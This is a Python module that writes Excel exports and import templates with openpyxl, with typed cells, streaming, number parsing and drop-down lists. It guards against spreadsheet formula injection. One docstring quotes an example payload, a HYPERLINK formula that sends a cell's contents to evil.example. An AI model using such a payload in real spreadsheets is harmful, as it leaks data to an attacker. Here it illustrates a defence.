"""Writing .xlsx: any table out with real types (dates, numbers, money), a styled and frozen
header row, autofilter and sensible widths — streamed with openpyxl's write-only mode so memory
stays flat — and the import templates (a comment on each header, drop-down lists for codes and
choices)."""

from __future__ import annotations

import datetime as dt
import os
import re
from collections.abc import Iterable, Sequence
from functools import lru_cache
from decimal import Decimal
from pathlib import Path
from typing import Any

from app.progress import TaskState
from app import clock
from app import format as fmt
from app.db.hygiene import find_bidi, without_bidi
from app.exchange.reading import column_letter

# money's format carries the firm's currency (format.excel_money_format(), read when a table is written)
FORMATS = {"money": "#,##0.00", "qty": "#,##0.###", "rate": "0.0%", "date": "yyyy-mm-dd", "month": "yyyy-mm",
           "int": "0", "number": "#,##0.##"}
WIDTH = {"date": 12, "month": 10, "money": 13, "qty": 11, "rate": 9, "int": 9, "bool": 8, "code": 14}
_DATE = re.compile(r"^\d{4}-\d{2}-\d{2}$")
_AS_IS = frozenset({str, int, float, dt.date, type(None)})  # what cell_value() returns unchanged
# text starting with these is a formula (=), or becomes one when retyped or pasted (+ - @, and a tab
# or carriage return before them); # is Excel's error cells (#REF!): such text is written as text
FORMULA_START = frozenset("=+-@\t\r#")


def text_cell(ws: Any, value: str) -> Any:
    """A cell holding ``value`` as text whatever it starts with: openpyxl makes a formula of any
    string starting with = (and an error cell of #REF!), so a customer named
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")' would be one. Works in write-only and
    normal mode (``ws.append`` takes the cell as it is)."""
    from openpyxl.cell import WriteOnlyCell

    c = WriteOnlyCell(ws, value)
    c.data_type = "s"
    return c


def safe(ws: Any, value: Any) -> Any:
    """``value``, or a text cell when it is text that a spreadsheet would take as a formula. The
    one test every writer uses (numbers pass untouched: a negative number is a number)."""
    if isinstance(value, str):
        value = without_bidi(value)
        if value[:1] in FORMULA_START:
            return text_cell(ws, value)
    return value


def safe_row(ws: Any, values: Sequence[Any]) -> list[Any]:
    return [safe(ws, v) for v in values]


def put_text(cell: Any, value: Any) -> None:
    """Set an existing cell (normal mode: ``ws.cell``, ``ws["B2"]``) the same safe way."""
    if isinstance(value, str):
        value = without_bidi(value)
    cell.value = value
    if isinstance(value, str) and value[:1] in FORMULA_START:
        cell.data_type = "s"


def cell_value(value: Any, kind: str) -> Any:
    """What goes into the cell: numbers as numbers (Decimal → float is exact enough for Excel's
    15 digits), dates as dates, timestamps without time zone (Excel has none) in local time."""
    if value is None:
        return None
    if isinstance(value, Decimal):
        return float(value)
    if isinstance(value, dt.datetime):
        return value.astimezone(clock.zone()).replace(tzinfo=None) if value.tzinfo else value
    if hasattr(value, "value") and not isinstance(value, (str, int, float)):  # enums
        return value.value
    return value


@lru_cache(maxsize=16)
def _patterns(style: fmt.NumberStyle) -> tuple[re.Pattern[str], re.Pattern[str], re.Pattern[str]]:
    """Money, per cent and plain numbers as ``app.format`` writes them in ``style``."""
    grp, dec = re.escape(style.group), re.escape(style.decimal)
    num = rf"(?:\d{{1,3}}(?:{grp}\d{{3}})+|\d+)(?:{dec}\d+)?"
    sign = "[" + "".join(sorted(set(fmt.SIGNS.values()))) + "]|[A-Z]{3}"
    money = re.compile(rf"^-?(?:(?:{sign}) ?(?P<minus>-)?(?P<a>{num})|(?P<b>{num}) (?:{sign}))$")
    percent = re.compile(rf"^-?(?P<n>{num}) ?%$")
    number = re.compile(rf"^-?{num}$")
    return money, percent, number


def _read(text: str, style: fmt.NumberStyle) -> float:
    """Digits in ``style`` ('1.234,5') → 1234.5."""
    return float(text.replace(style.group, "").replace(style.decimal, "."))


def typed_text(text: str) -> tuple[Any, str]:
    """A displayed string back to a typed value for exports of on-screen tables, as
    ``app.format`` wrote it in the firm's locale: '£1,234.50' or '1.234,50 €' → 1234.5 (money),
    '12%' or '12 %' → 0.12 (rate), '2026-11-26' → date, '1,200' → 1200."""
    s = text.strip().replace("\u00a0", " ").replace("\u202f", " ")
    if not s:
        return None, "text"
    style = fmt.style()
    money, percent, number = _patterns(style)
    negative = -1 if s.startswith("-") else 1
    m = money.match(s)
    if m:
        return (-1 if m.group("minus") else negative) * _read(m.group("a") or m.group("b"), style), "money"
    m = percent.match(s)
    if m:
        return negative * _read(m.group("n"), style) / 100, "rate"
    if _DATE.match(s):
        try:
            return dt.date.fromisoformat(s), "date"
        except ValueError:
            return s, "text"
    if number.match(s) and not (len(s) > 1 and s.startswith("0") and not s.startswith("0" + style.decimal)):
        return negative * _read(s.lstrip("-"), style), "number"
    return s, "text"


def write_table(target: Path | str, title: str, columns: Sequence[tuple[str, str]], rows: Iterable[Sequence[Any]], *,
                state: TaskState | None = None, total: int | None = None, currency: str | None = None,
                locale: str | None = None) -> int:
    """Stream ``rows`` into a new workbook at ``target`` (written to a temporary file first, then
    moved, so a cancelled or failed export never leaves half a file). Returns the rows written.
    Money columns carry ``currency`` (an ISO code; the one amounts are shown in here when None),
    its sign where ``locale`` writes it."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Alignment, Font, PatternFill

    target = Path(target)
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(title[:31] or "Sheet1")
    kinds = [k for _l, k in columns]
    widths = [max(len(label) + 2, WIDTH.get(k, 12)) for label, k in columns]
    for i, w in enumerate(widths):
        ws.column_dimensions[column_letter(i)].width = min(w, 60)
    ws.freeze_panes = "A2"
    bold, fill = Font(bold=True, color="FFFFFF"), PatternFill("solid", fgColor="1F4E79")
    head = []
    for label, _k in columns:
        c = text_cell(ws, label) if isinstance(label, str) else WriteOnlyCell(ws, value=label)
        c.font, c.fill, c.alignment = bold, fill, Alignment(horizontal="center", vertical="center", wrap_text=True)
        head.append(c)
    ws.append(head)
    # a styled cell per value is what costs in openpyxl, so only money and rates get a format of
    # their own; dates get openpyxl's date format by themselves, plain numbers need none. One
    # styled cell per such column is reused row after row: write-only mode writes each appended
    # row out at once, so the cell is free again when append() returns
    styled: dict[int, Any] = {}
    for i, k in enumerate(kinds):
        if k in ("money", "rate", "month"):
            styled[i] = WriteOnlyCell(ws)
            styled[i].number_format = fmt.excel_money_format(currency, locale) if k == "money" else FORMATS[k]
    n = 0
    risky, bidi = FORMULA_START, find_bidi
    for row in rows:
        out = []
        for i, value in enumerate(row):
            cls = value.__class__
            if cls is str:  # text that would be a formula goes in as text (numbers skip this test)
                if bidi(value):  # a right-to-left override cannot reorder what Excel shows after it
                    value = without_bidi(value)
                if value[:1] in risky:
                    out.append(text_cell(ws, value))
                    continue
            elif cls is Decimal:
                value = float(value)
            elif cls not in _AS_IS:
                value = cell_value(value, kinds[i] if i < len(kinds) else "text")
                if isinstance(value, str) and value[:1] in risky:
                    out.append(text_cell(ws, value))
                    continue
            if i in styled and value is not None:
                c = styled[i]
                c.value = value
                out.append(c)
            else:
                out.append(value)
        ws.append(out)
        n += 1
        if state is not None and n % 5000 == 0:
            state.progress(min(0.99, n / total) if total else 0.5, f"{n:,} rows written")
    ws.auto_filter.ref = f"A1:{column_letter(max(0, len(columns) - 1))}{n + 1}"
    tmp = target.with_name(target.stem + ".part.xlsx")
    try:
        wb.save(tmp)
        os.replace(tmp, target)
    finally:
        if tmp.exists():
            tmp.unlink()
    return n


def write_template(target: Path | str, kind: Any, choice_lists: dict[str, list[str]]) -> Path:
    """The import template: the kind's columns with a comment explaining each, required columns
    marked, drop-down validation for choices and codes (from a hidden 'Lists' sheet)."""
    from openpyxl import Workbook
    from openpyxl.comments import Comment
    from openpyxl.styles import Font, PatternFill
    from openpyxl.worksheet.datavalidation import DataValidation
    from openpyxl.worksheet.worksheet import Worksheet

    target = Path(target)
    wb = Workbook()
    ws = wb.active
    assert isinstance(ws, Worksheet), "a new workbook starts with one worksheet"
    ws.title = kind.title[:31]
    lists = wb.create_sheet("Lists")
    lists.sheet_state = "hidden"
    list_col = 0
    importable = [f for f in kind.fields if "Export only" not in f.help]
    for i, f in enumerate(importable):
        c = ws.cell(1, i + 1)
        put_text(c, f.label)
        c.font = Font(bold=True, color="FFFFFF")
        c.fill = PatternFill("solid", fgColor="B00020" if f.required else "1F4E79")
        kinds = {"code": "a code", "text": "text", "int": "a whole number", "qty": "a quantity", "money": "an amount",
                 "rate": "a rate (20 % or 0.2)", "date": "a date (2026-11-26 or 26/11/2026)", "bool": "yes or no",
                 "enum": "one of: " + ", ".join(f.choices)}
        note = f"{'Required. ' if f.required else 'Optional. '}{f.help + '. ' if f.help else ''}{kinds.get(f.type, '')}"
        if f.synonyms:
            note += f"\nAlso recognised as: {', '.join(f.synonyms[:6])}"
        c.comment = Comment(note, "OrderCycle", width=300, height=120)
        ws.column_dimensions[column_letter(i)].width = max(len(f.label) + 4, WIDTH.get(f.type, 14))
        options = list(f.choices) or choice_lists.get(f.lookup or "", [])
        if f.type == "bool":
            options = ["yes", "no"]
        if options:
            for r, opt in enumerate(options, 1):
                put_text(lists.cell(r, list_col + 1), opt)
            letter = column_letter(list_col)
            dv = DataValidation(type="list", formula1=f"=Lists!${letter}$1:${letter}${len(options)}",
                                allow_blank=not f.required, showErrorMessage=True,
                                errorTitle=f.label, error=f"Choose a value from the list for {f.label}.")
            ws.add_data_validation(dv)
            dv.add(f"{column_letter(i)}2:{column_letter(i)}10000")
            list_col += 1
    ws.freeze_panes = "A2"
    tmp = target.with_name(target.stem + ".part.xlsx")
    wb.save(tmp)
    os.replace(tmp, target)
    return target
